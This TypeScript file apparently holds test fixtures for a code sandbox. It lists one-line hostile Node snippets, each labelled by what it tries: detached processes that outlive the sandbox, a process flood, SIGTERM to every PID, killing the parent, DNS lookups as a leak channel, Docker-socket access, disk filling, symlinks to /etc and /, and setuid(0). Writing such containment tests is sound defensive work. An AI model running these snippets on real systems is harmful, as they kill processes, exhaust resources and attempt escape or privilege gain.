import type { Submission } from "./submission.js";

/** Processes started here carry it in their arguments, so that those left behind can be found. */
export const marker: string = `hostile-left-behind-${process.pid}`;

export const outward: readonly Submission[] = [
  {
    tries: "twenty children that outlive it",
    source: `const { spawn } = await import("node:child_process"); for (let i = 0; i < 20; i++) try { spawn(process.execPath, ["-e", "setTimeout(() => {}, 600000)", "${marker}"], { detached: true, stdio: "ignore" }).on("error", () => {}).unref(); } catch {} let total = 7;`,
    // At `trusted`, what leaves its process group is out of reach.
    outward: true,
  },
  {
    tries: "a child that answers for it",
    source:
      'const { spawnSync } = await import("node:child_process"); spawnSync(process.execPath, ["-e", "require(\'fs\').writeSync(4, Buffer.alloc(9))"], { stdio: ["ignore", "ignore", "ignore", "inherit", 4], timeout: 1500 }); let total = 7;',
  },
  {
    tries: "children of children",
    source: `const { spawn } = await import("node:child_process"); for (let i = 0; i < 3; i++) spawn(process.execPath, ["-e", "require('child_process').spawn(process.execPath, ['-e', 'setTimeout(() => {}, 600000)', '${marker}'], { detached: true, stdio: 'ignore' })", "${marker}"], { detached: true, stdio: "ignore" }).on("error", () => {}); await new Promise((done) => setTimeout(done, 300)); let total = 7;`,
    // At `trusted`, what leaves its process group is out of reach.
    outward: true,
  },
  {
    tries: "more children than allowed",
    source: `const { spawn } = await import("node:child_process"); for (let i = 0; i < 150; i++) try { spawn("sleep", ["601"], { stdio: "ignore" }).on("error", () => {}); } catch {} let total = 7;`,
    outward: true,
  },
  {
    tries: "a thread that keeps it alive",
    source:
      'const { Worker } = await import("node:worker_threads"); new Worker("for (;;);", { eval: true }); let total = 7;',
  },
  {
    tries: "many threads",
    source:
      'const { Worker } = await import("node:worker_threads"); for (let i = 0; i < 12; i++) new Worker("setInterval(() => {}, 9)", { eval: true }).on("error", () => {}); let total = 7;',
  },
  {
    tries: "a shell",
    source:
      'const { execSync } = await import("node:child_process"); let total = Number(execSync("echo 7").toString());',
  },
  {
    tries: "killing whoever started it",
    source: 'let total = 7; try { process.kill(process.ppid, "SIGKILL"); } catch {}',
    outward: true,
  },
  {
    tries: "killing everybody",
    source:
      'let total = 7; for (let pid = 1; pid < 4000; pid++) try { if (pid !== process.pid) process.kill(pid, "SIGTERM"); } catch {}',
    outward: true,
  },
  {
    tries: "the network",
    source:
      'let total = 7; try { total = Number(await (await fetch("http://127.0.0.1:1/", { signal: AbortSignal.timeout(500) })).text()); } catch {}',
  },
  {
    tries: "a server of its own",
    source:
      'const { createServer } = await import("node:http"); let total = 7; createServer(() => {}).listen(0).on("error", () => {});',
  },
  {
    tries: "names that carry the data out",
    source:
      'const { lookup } = await import("node:dns/promises"); let total = 7; await Promise.race([lookup("secret.invalid").catch(() => {}), new Promise((done) => setTimeout(done, 500))]);',
  },
  {
    tries: "a socket of the system",
    source:
      'const { connect } = await import("node:net"); let total = 7; for (const path of ["/var/run/docker.sock", "/run/dbus/system_bus_socket"]) connect(path).on("error", () => {}).on("connect", function (this: any) { this.destroy(); });',
  },
  {
    tries: "filling its folder",
    source:
      'const fs = await import("node:fs"); let total = 7; try { for (let i = 0; i < 4; i++) fs.writeFileSync("big" + i, Buffer.alloc(6e7)); } catch {}',
  },
  {
    tries: "filling the temporary folder",
    source:
      'const fs = await import("node:fs"); let total = 7; try { for (let i = 0; i < 4; i++) fs.writeFileSync((process.env.TMPDIR ?? "/tmp") + "/big" + i, Buffer.alloc(4e7)); } catch {}',
  },
  {
    tries: "ten thousand files and deep folders",
    source:
      'const fs = await import("node:fs"); let total = 7; try { fs.mkdirSync(Array(200).fill("d").join("/"), { recursive: true }); for (let i = 0; i < 10_000; i++) fs.writeFileSync("f" + i, ""); } catch {}',
  },
  {
    tries: "a folder that can't be removed",
    source:
      'const fs = await import("node:fs"); let total = 7; fs.mkdirSync("locked"); fs.writeFileSync("locked/a", ""); fs.chmodSync("locked", 0); fs.chmodSync(".", 0o500);',
  },
  {
    tries: "links out of its folder, for whoever tidies up",
    source:
      'const fs = await import("node:fs"); let total = 7; for (const [name, target] of [["up", ".."], ["root", "/"], ["here", "."], ["data/more", "/etc"]]) try { fs.symlinkSync(target!, name!); } catch {}',
  },
  {
    tries: "a link in the place of the data",
    source:
      'const fs = await import("node:fs"); let total = 7; fs.rmSync("data", { recursive: true }); fs.symlinkSync("/etc", "data");',
  },
  {
    tries: "the data written anew",
    source: 'const fs = await import("node:fs"); fs.writeFileSync("data/numbers.csv", "n\\n5\\n"); let total = 7;',
  },
  {
    tries: "a pipe that nobody reads",
    source:
      'const { execSync } = await import("node:child_process"); let total = 7; try { execSync("mkfifo pipe"); } catch {}',
  },
  {
    tries: "a native addon",
    source:
      'let total = 7; try { (process as any).dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6"); } catch {}',
  },
  {
    tries: "another user",
    source:
      "let total = 7; try { (process as any).setuid(0); (process as any).chroot?.('/'); process.umask(0); } catch {}",
  },
  { tries: "another folder to work in", source: 'let total = 7; try { process.chdir("/"); } catch {}' },
];
